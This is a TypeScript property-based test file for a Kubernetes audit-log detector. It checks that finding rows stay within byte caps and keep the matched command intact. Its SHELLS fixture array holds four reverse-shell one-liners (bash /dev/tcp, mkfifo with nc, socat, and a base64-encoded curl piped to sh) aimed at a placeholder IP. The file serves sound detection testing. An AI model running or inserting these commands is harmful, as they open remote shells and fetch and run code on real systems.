import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cutAround } from '../../src/findings/bound/cut-text.js';
import type { FindingRow } from '../../src/findings/finding-row.js';
import { FINDING_SCHEMA } from '../../src/findings/schema.js';
import type { RedactionMode } from '../../src/redact/redaction-mode.js';
import { aksRecord, auditEvent, cronJobBody, podSpec } from '../helpers/audit.js';
import { bundledRuleSet, FIXED_CLOCK, processBatch } from '../helpers/detector.js';

const RUNS = Number(process.env['PROPERTY_RUNS'] ?? 25);
const RULE = 'f4fc1f0e-ebc3-4f51-808e-2b12ba1883d8';

/** Characters that cost more than a byte in a row: multi-byte, surrogate pairs, JSON escapes, controls. */
const CHARS = fc.constantFrom('a', 'Z', ' ', '€', '𝄞', '"', '\\', '\n', '\u0001', '/', 'é', '<', '&');
const text = (max: number) => fc.array(CHARS, { maxLength: max, size: 'max' }).map((cs) => cs.join(''));
/** Long padding, made of a random chunk repeated, so runs stay fast. */
const padding = fc
  .tuple(text(40), fc.integer({ min: 0, max: 150_000 }))
  .map(([chunk, n]) => (chunk === '' ? '' : chunk.repeat(Math.ceil(n / chunk.length)).slice(0, n)));

const SHELLS = [
  'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
  'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f',
  'socat exec:/bin/sh,pty,stderr tcp:203.0.113.7:4444',
  'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvbQ== | base64 -d | sh',
];

const BOUNDED = FINDING_SCHEMA.columns.filter((c) => c.type === 'string' || c.type === 'dynamic');
const bytes = (value: unknown) => Buffer.byteLength(JSON.stringify(value) ?? 'null', 'utf8');

describe('bounded finding rows (property)', () => {
  it('keeps every row and column within its cap, the matched command whole, and says what it cut', async () => {
    const ruleSet = await bundledRuleSet();
    await fc.assert(
      fc.asyncProperty(
        fc.record({
          before: padding,
          after: padding,
          shell: fc.constantFrom(...SHELLS),
          env: fc.array(fc.record({ name: text(20), value: text(3000) }), { maxLength: 60 }),
          username: fc.oneof(fc.constant('mallory@contoso.example'), padding),
          name: fc.oneof(fc.constant('log-rotate'), padding),
          cap: fc.constantFrom(
            4096,
            16_384,
            FINDING_SCHEMA.columnMaxBytes,
            FINDING_SCHEMA.columnMaxBytesLimit,
          ),
          redaction: fc.constantFrom<RedactionMode>('default', 'strict', 'off'),
        }),
        async ({ before, after, shell, env, username, name, cap, redaction }) => {
          const command = `${before}; ${shell}; ${after}`;
          const event = auditEvent({
            username,
            name,
            requestObject: cronJobBody(
              podSpec({
                image: 'registry.contoso.example/runner:1',
                command: ['/bin/sh', '-c', command],
                env,
              }),
            ),
          });
          const { findings } = processBatch(
            [{ body: { records: [aksRecord(event)] }, origin: { event: 0 } }],
            {
              ruleSet,
              clock: FIXED_CLOCK,
              detectorVersion: 'test',
              findingPolicy: { redaction, columnMaxBytes: cap },
            },
          );
          const row = findings.find((f) => f.RuleId === RULE) as FindingRow;
          expect(row).toBeDefined();
          expect(bytes(row)).toBeLessThan(FINDING_SCHEMA.rowMaxBytes);
          for (const column of BOUNDED) {
            const value = (row as unknown as Record<string, unknown>)[column.name];
            expect(bytes(value), column.name).toBeLessThanOrEqual(cap);
          }
          const matched = (row.Indicators['matched'] as Record<string, Record<string, unknown>>)[
            'indicator_command'
          ];
          expect(String(matched?.['command'])).toContain(shell);
          expect(String(row.RawRecord)).toContain(shell);
          if (Buffer.byteLength(command) > cap) {
            expect(row.Truncated['Indicators']).toBeGreaterThan(Buffer.byteLength(command));
            expect(row.Truncated['RawRecord']).toBeGreaterThan(Buffer.byteLength(command));
            expect(row.RawRecordTruncated).toBe(true);
          }
          for (const [column, size] of Object.entries(row.Truncated)) {
            expect(BOUNDED.map((c) => c.name)).toContain(column);
            expect(size, column).toBeGreaterThan(cap);
          }
        },
      ),
      { numRuns: RUNS },
    );
  }, 300_000);

  it('keeps the whole command in RawRecord with control characters around it and a quote-heavy username (cap 4096)', async () => {
    // Found by fast-check (seed -1147199193): context was shared in characters, so the escaped
    // controls before the match took the room the command after it needed.
    const ruleSet = await bundledRuleSet();
    const shell = SHELLS[0] ?? '';
    const event = auditEvent({
      username: '"'.repeat(133),
      name: 'a'.repeat(448),
      requestObject: cronJobBody(
        podSpec({
          image: 'registry.contoso.example/runner:1',
          command: ['/bin/sh', '-c', `${'\u0001'.repeat(25)}; ${shell}; ${'\u0001'.repeat(34)}`],
          env: [],
        }),
      ),
    });
    const { findings } = processBatch([{ body: { records: [aksRecord(event)] }, origin: { event: 0 } }], {
      ruleSet,
      clock: FIXED_CLOCK,
      detectorVersion: 'test',
      findingPolicy: { redaction: 'default', columnMaxBytes: 4096 },
    });
    const row = findings.find((f) => f.RuleId === RULE) as FindingRow;
    expect(bytes(row.RawRecord)).toBeLessThanOrEqual(4096);
    expect(row.RawRecord).toContain(shell);
    expect(row.RawRecordTruncated).toBe(true);
    expect(row.Truncated['RawRecord']).toBeGreaterThan(4096);
  });

  it('cutAround keeps any span whole within any cap, and accounts for every byte cut', () => {
    fc.assert(
      fc.property(
        text(3000),
        fc.nat(),
        fc.integer({ min: 0, max: 120 }),
        fc.integer({ min: 1024, max: 8192 }),
        (value, at, length, maxBytes) => {
          const start = value.length === 0 ? 0 : at % value.length;
          // A span on character boundaries, as a regular expression match is.
          const s = /[\udc00-\udfff]/.test(value[start] ?? '') ? start - 1 : start;
          let e = Math.min(value.length, s + length);
          if (/[\ud800-\udbff]/.test(value[e - 1] ?? '')) e++;
          const cut = cutAround(value, [[s, e]], maxBytes);
          expect(bytes(cut)).toBeLessThanOrEqual(maxBytes);
          expect(cut).toContain(value.slice(s, e));
          const dropped = [...cut.matchAll(/…\[([\d,]+) bytes cut\]…/g)];
          const kept = cut.replace(/…\[[\d,]+ bytes cut\]…/g, '');
          const counted = dropped.reduce((n, m) => n + Number((m[1] ?? '').replaceAll(',', '')), 0);
          if (!value.includes('bytes cut]'))
            expect(Buffer.byteLength(kept) + counted).toBe(Buffer.byteLength(value));
        },
      ),
      { numRuns: RUNS * 20 },
    );
  });
});
